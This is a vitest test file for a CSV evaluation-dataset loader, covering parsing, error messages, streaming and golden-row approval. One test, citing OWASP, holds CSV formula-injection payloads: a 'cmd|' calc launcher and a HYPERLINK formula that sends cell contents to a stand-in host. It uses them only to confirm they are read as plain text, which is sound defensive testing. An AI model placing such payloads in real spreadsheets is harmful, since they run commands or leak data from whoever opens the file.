import { join } from "node:path";
import { expect, test } from "vitest";
import { approveGolden } from "./approve-golden.ts";
import type { EvalCase } from "./eval-case.ts";
import { loadDataset } from "./load-dataset.ts";
import { loadDatasetSync } from "./load-dataset-sync.ts";
import { streamDataset } from "./stream-dataset.ts";
import { datasetFolder, evalErrorOf } from "./test-helpers/dataset-folder.ts";

async function casesOf(content: string | Uint8Array): Promise<readonly EvalCase[]> {
  const from = datasetFolder({ "cases.csv": content });
  const { cases } = await loadDataset("cases.csv", { from });
  expect(loadDatasetSync("cases.csv", { from }).cases).toEqual(cases);
  return cases;
}

async function problemOf(content: string | Uint8Array): Promise<string> {
  const from = datasetFolder({ "cases.csv": content });
  const error = await evalErrorOf(() => loadDataset("cases.csv", { from }));
  const sync = await evalErrorOf(() => loadDatasetSync("cases.csv", { from }));
  expect(sync.message).toBe(error.message);
  expect(error.location?.file).toBe(join(from, "cases.csv"));
  return `${error.code} ${error.message.replaceAll(`${from}/`, "")}`;
}

test("reads every field, with the place of its row", async () => {
  const from = datasetFolder({
    "cases.csv": [
      "id,partition,input.question,input.limit:json,expected,tags,metadata.persona,createdAt,source,reviewedBy,rootCause",
      'plan-1,regression,"Which plan, and why?",3,Team,plans; billing,admin,2026-03-31,ticket,Ada;Grace,Stale article.',
      "plan-2,distribution,Price?,,,,,,,,",
    ].join("\n"),
  });

  const { cases, files } = await loadDataset("cases.csv", { from });

  const file = join(from, "cases.csv");
  expect(files).toEqual([file]);
  expect(cases).toEqual([
    {
      id: "plan-1",
      partition: "regression",
      input: { question: "Which plan, and why?", limit: 3 },
      expected: "Team",
      tags: ["plans", "billing"],
      metadata: { persona: "admin" },
      createdAt: "2026-03-31",
      source: "ticket",
      reviewedBy: ["Ada", "Grace"],
      rootCause: "Stale article.",
      location: { file, line: 2, column: 1 },
    },
    {
      id: "plan-2",
      partition: "distribution",
      input: { question: "Price?" },
      tags: [],
      metadata: {},
      location: { file, line: 3, column: 1 },
    },
  ]);
});

test.each(["007", "1e3", "true", "null", "2026-03-31", " padded ", "{}", "=1+1"])(
  "keeps %j a text",
  async (text) => {
    const [only] = await casesOf(`id,input,expected\na,${text},${text}\n`);

    expect([only?.input, only?.expected]).toEqual([text, text]);
  },
);

// https://owasp.org/www-community/attacks/CSV_Injection
test.each([
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?q="&A1,"see")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
])("reads the formula %s as data", async (formula) => {
  const [only] = await casesOf(`id,input\na,"${formula.replaceAll('"', '""')}"\n`);

  expect(only?.input).toBe(formula);
});

test("keeps quotes, commas and line breaks of a quoted cell, and counts lines through them", async () => {
  const cases = await casesOf('id,input\na,"one, ""two""\r\nthree\rfour\n\nfive"\n\nb,last');

  expect(cases.map(({ input }) => input)).toEqual(['one, "two"\r\nthree\rfour\n\nfive', "last"]);
  expect(cases.map(({ location }) => location?.line)).toEqual([2, 8]);
});

test.each(["\n", "\r\n", "\r"])(
  "reads the same rows with line ends %j, and after a byte order mark",
  async (end) => {
    const cases = await casesOf(`\ufeff${["id,input", "a,1", "", "b,2"].join(end)}`);

    expect(cases.map(({ id, location }) => [id, location?.line])).toEqual([
      ["a", 2],
      ["b", 4],
    ]);
  },
);

test("reads JSON in columns that say so", async () => {
  const [only] = await casesOf(
    'id,input:json,metadata:json\na,"{""n"":1.5,""list"":[true,null,""""]}","{""level"":2}"\n',
  );

  expect([only?.input, only?.metadata]).toEqual([{ n: 1.5, list: [true, null, ""] }, { level: 2 }]);
});

test("keeps a key called __proto__ as data", async () => {
  const [only] = await casesOf("id,input.__proto__\na,x\n");

  expect(Object.entries(only?.input as object)).toEqual([["__proto__", "x"]]);
  expect(({} as { x?: unknown }).x).toBeUndefined();
});

test.each([
  [
    "too few cells",
    "id,input,expected\na,1\n",
    "cases.csv:2:1: the row has 2 cells, the header has 3 columns. Give every row a cell for every column, and put cells with a comma in quotes.",
  ],
  ["too many cells", "id,input\na,1,2\n", "cases.csv:2:1: the row has 3 cells, the header has 2 columns"],
  [
    "an unknown column",
    "id,inptu\na,1\n",
    'cases.csv:1:4: the column "inptu" is no field of a case. Did you mean "input"?',
  ],
  [
    "a column that is no field at all",
    "id,input,persona\na,1,2\n",
    'cases.csv:1:10: the column "persona" is no field of a case. Remove it, or call it "metadata.<dimension>" or "input.<key>".',
  ],
  ["a column without a name", "id,input,\na,1,\n", 'cases.csv:1:10: the column "" is no field of a case'],
  [
    "a column twice",
    "id,input,id\na,1,b\n",
    'cases.csv:1:10: the column "id" gives a case what "id" gives it as well',
  ],
  [
    "a field as a whole and by key",
    "id,input.a,input:json\na,1,2\n",
    'cases.csv:1:12: the column "input:json" gives a case what "input.a" gives it as well. Keep one of the two.',
  ],
  ["metadata as text", "id,input,metadata\na,1,x\n", 'cases.csv:1:10: the column "metadata" would be text'],
  [
    "no id",
    "input\nx\n",
    'cases.csv:1:1: the header has no column "id". Name it in the first line: id,input,expected.',
  ],
  [
    "no header",
    "a,What?,x\n",
    "cases.csv:1:1: the first line names no field of a case. Name the columns there: id,input,expected.",
  ],
  [
    "semicolons",
    "id;input\na;1\n",
    "cases.csv:1:1: the cells are not separated by commas. Save the file with commas.",
  ],
  [
    "a quote inside of a cell",
    'id,input\na,x\nb,say "hi"\nc,y\n',
    'cases.csv:3:3: a quote stands inside of a cell that does not start with one, so that the rest of the file was not read. Put the whole cell in quotes, and double every quote inside: "say ""hi""".',
  ],
  [
    "text behind a closing quote",
    'id,input\na,"x"y\n',
    "cases.csv:2:3: this cell goes on behind its closing quote",
  ],
  [
    "a quote that is never closed",
    'id,input\na,x\nb,"y\nc,z\n',
    "cases.csv:3:3: the quote of this cell is never closed",
  ],
  ["JSON that is none", 'id,input:json\na,"{""a"": tru}"\n', 'cases.csv:2:12: in "input:json": '],
  ["an empty input", "id,input\na,\n", 'cases.csv:2:1: case "a": "input" is missing'],
  [
    "an unknown partition",
    "id,partition,input\na,goldn,1\n",
    'cases.csv:2:3: case "a": "partition" is "goldn"',
  ],
  [
    "an empty tag",
    "id,tags,input\na,x;;y,1\n",
    'cases.csv:2:3: case "a": "tags[1]" must be a string that is not empty',
  ],
  [
    "an id twice",
    "id,input\na,1\na,2\n",
    'cases.csv:3:1: case "a": the id is used twice: first at cases.csv:2:1',
  ],
  ["no row", "id,input\n", "cases.csv: the file holds no case"],
  ["nothing", "", "cases.csv: the file holds no case"],
  [
    "UTF-16",
    Buffer.from("\ufeffid,input\na,1\n", "utf16le"),
    "cases.csv:1:1: the file is written in UTF-16LE",
  ],
  [
    "a byte that is not UTF-8",
    Buffer.concat([Buffer.from("id,input\na,x"), Buffer.from([0xff]), Buffer.from("\nb,2\n")]),
    "cases.csv:2:4: byte 12 of the file (0xff) is not UTF-8",
  ],
  [
    "a header that is not UTF-8",
    Buffer.concat([Buffer.from("id,inp"), Buffer.from([0xff]), Buffer.from("ut\nb,2\n")]),
    "cases.csv:1:7: byte 6 of the file (0xff) is not UTF-8",
  ],
])("refuses %s", async (_name, content, message) => {
  const problem = await problemOf(content);

  expect(problem).toContain(message);
  expect(problem).not.toContain("problems");
});

test("names every problem of the rows", async () => {
  const problem = await problemOf("id,input\na\n,2\nc,3\nc,4\n");

  expect(problem).toContain("3 problems");
});

test("says that columns are not separated by commas before it says that they are unknown", async () => {
  expect(await problemOf("id\tinput\na\t1\n")).toContain("the cells are not separated by commas");
});

test("streams rows and keeps them apart over the borders of chunks", async () => {
  const question = `"${"long, ".repeat(20_000)}""end"""`;
  const rows = Array.from({ length: 20 }, (_, index) => `case-${index},${question}`);
  const from = datasetFolder({ "cases.csv": `id,input\r\n${rows.join("\r\n")}\r\n` });

  const seen: EvalCase[] = [];
  for await (const one of streamDataset("cases.csv", { from })) seen.push(one);

  expect(seen.map(({ id, location }) => [id, location?.line])).toEqual(
    rows.map((_, index) => [`case-${index}`, index + 2]),
  );
  expect(new Set(seen.map(({ input }) => input)).size).toBe(1);
});

test("approves golden rows, and refuses them when they change", async () => {
  const header = "id,partition,input,reviewedBy\n";
  const from = datasetFolder({ "cases.csv": `${header}g,golden,What?,Ada;Grace\n` });
  await expect(loadDataset("cases.csv", { from })).rejects.toThrow('added "g"');

  await approveGolden(["cases.csv"], { from, reviewer: "Ada" });

  expect((await loadDataset("cases.csv", { from })).cases).toHaveLength(1);
  const changed = datasetFolder({ "cases.csv": `${header}g,golden,Why?,Ada;Grace\n` });
  await expect(loadDataset("cases.csv", { from: changed })).rejects.toThrow('added "g"');
});

test("gives a golden row the digest that it has as JSON", async () => {
  const from = datasetFolder({
    "a.csv": "reviewedBy,id,partition,input.q\nAda;Grace,g,golden,What?\n",
    "b.jsonl": '{"id":"g","partition":"golden","input":{"q":"What?"},"reviewedBy":["Ada","Grace"]}\n',
  });
  await approveGolden(["a.csv"], { from, reviewer: "Ada" });
  await approveGolden(["b.jsonl"], { from, reviewer: "Ada" });

  const { readFileSync } = await import("node:fs");
  const digest = (name: string): string =>
    /sha256:[0-9a-f]+/.exec(readFileSync(join(from, name), "utf8"))?.[0] ?? name;
  expect(digest("a.csv.lock.json")).toBe(digest("b.jsonl.lock.json"));
});
